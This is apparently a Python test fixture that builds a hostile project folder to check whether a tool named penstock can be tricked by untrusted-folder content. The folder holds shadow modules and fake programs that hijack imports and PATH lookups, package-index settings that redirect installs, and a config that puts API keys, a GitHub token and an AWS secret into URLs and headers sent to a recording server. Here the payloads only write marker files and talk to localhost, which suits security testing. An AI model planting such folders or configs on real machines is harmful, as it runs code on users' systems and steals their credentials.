"""A folder of a stranger: modules, programs and settings that report when they are used."""

from __future__ import annotations

import http.server
import json
import os
import sys
import sysconfig
import threading
from collections.abc import Generator
from contextlib import contextmanager
from pathlib import Path

SECRETS = {
    "OPENAI_API_KEY": "sk-open-0123456789abcdef",
    "AWS_SECRET_ACCESS_KEY": "aws-secret-0123456789abcdef",
    "GITHUB_TOKEN": "ghp-0123456789abcdef",
}
PROGRAMS = ("uv", "pip", "python", "python3", "vi", "less", "ps", "git", "uname", "poisoned-server")
_ANSWER = json.dumps(
    {
        "model": "m",
        "choices": [{"message": {"role": "assistant", "content": "Hi"}, "finish_reason": "stop"}],
        "usage": {"prompt_tokens": 1, "completion_tokens": 1},
    }
).encode()
_CONFIG = """\
[server]
workers = 2
admin_key = "${{GITHUB_TOKEN}}"
[telemetry]
otlp_endpoint = "http://127.0.0.1:{port}/${{GITHUB_TOKEN}}"
[providers.evil]
kind = "openai-chat"
url = "http://127.0.0.1:{port}/${{OPENAI_API_KEY}}"
auth_token = "${{OPENAI_API_KEY}}"
headers = {{ x-more = "${{AWS_SECRET_ACCESS_KEY}}" }}
[providers.own]
kind = "embedded"
model_path = "model.gguf"
[models.default]
targets = ["evil/${{GITHUB_TOKEN}}", "own/default"]
[routing]
embedder = "evil/${{GITHUB_TOKEN}}"
"""


class Recorder:
    """Every byte that a loopback HTTP server gets, from the request line to the body."""

    def __init__(self) -> None:
        self.port = 0
        self.requests: list[bytes] = []


@contextmanager
def recording() -> Generator[Recorder]:
    """A running server that answers each request as a model would."""
    recorder = Recorder()

    class Handler(http.server.BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def _answer(self) -> None:
            body = self.rfile.read(int(self.headers.get("content-length") or 0))
            head = f"{self.requestline}\n{self.headers}".encode()
            recorder.requests.append(head + body)
            self.send_response(200)
            self.send_header("content-type", "application/json")
            self.send_header("content-length", str(len(_ANSWER)))
            self.end_headers()
            self.wfile.write(_ANSWER)

        do_GET = do_POST = do_PUT = do_HEAD = _answer  # noqa: N815

        def log_request(self, code: object = "-", size: object = "-") -> None:
            """Print nothing."""

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        recorder.port = server.server_address[1]
        thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05})
        thread.start()
        try:
            yield recorder
        finally:
            server.shutdown()
            thread.join()


def module_names() -> set[str]:
    """Each top-level module of the standard library and of the environment."""
    folders = {sysconfig.get_path("purelib"), sysconfig.get_path("platlib")}
    installed = {file.name.partition(".")[0] for each in folders for file in Path(each).iterdir()}
    names = {*sys.stdlib_module_names, *installed, "sitecustomize", "usercustomize"}
    return {name for name in names if name.isidentifier() and name != "__future__"}


class HostileFolder:
    """The folder, and the marks that its code leaves."""

    def __init__(self, base: Path, port: int) -> None:
        self.path = base / "hostile"
        self.path.mkdir(mode=0o755)
        self._marks = base / "marks"
        self._marks.mkdir()
        for name in module_names():
            self._module(self.path / f"{name}.py")
        for package in ("pip", "penstock"):
            (self.path / f"{package}.py").unlink(missing_ok=True)
            (self.path / package).mkdir()
            for name in ("__init__", "__main__", "cli"):
                self._module(self.path / package / f"{name}.py")
        for name in PROGRAMS:
            program = self.path / name
            if not program.exists():
                program.write_text(f"#!/bin/sh\n: > {self._marks}/{name}\n")
                program.chmod(0o755)
        index = f"http://127.0.0.1:{port}/simple"
        self.config = self._text("penstock.toml", _CONFIG.format(port=port))
        self._text("pip.conf", f"[global]\nindex-url = {index}\n")
        self._text("uv.toml", f'index-url = "{index}"\n')
        self._text("pyproject.toml", f'[tool.uv]\nindex-url = "{index}"\n')
        self._text(".env", f"OPENAI_BASE_URL=http://127.0.0.1:{port}\nPENSTOCK_TRUST_FOLDER=1\n")
        self._text("model.gguf", "GGUF")

    @property
    def used(self) -> list[str]:
        """The names of what has run."""
        return sorted(each.name for each in self._marks.iterdir())

    def forgive(self, *names: str) -> None:
        """Take away modules."""
        for name in names:
            (self.path / f"{name}.py").unlink(missing_ok=True)

    def _module(self, file: Path) -> None:
        mark = self._marks / f"{file.parent.name}.{file.stem}"
        # Without an import, and in a language that is loaded with the interpreter.
        file.write_text(f"open({str(mark)!r}, 'w').close()\n")

    def _text(self, name: str, text: str) -> Path:
        file = self.path / name
        file.write_text(text)
        file.chmod(0o644)
        return file


def victim(home: Path, **more: str) -> dict[str, str]:
    """The environment of a user with keys, whose search paths begin in the working folder."""
    kept = {
        name: value
        for name, value in os.environ.items()
        if name not in ("PENSTOCK_TRUST_FOLDER", "PENSTOCK_CONFIG")
    }
    path = f".{os.pathsep}{os.pathsep}{os.environ['PATH']}"
    return {**kept, **SECRETS, "PATH": path, "PENSTOCK_HOME": str(home), **more}
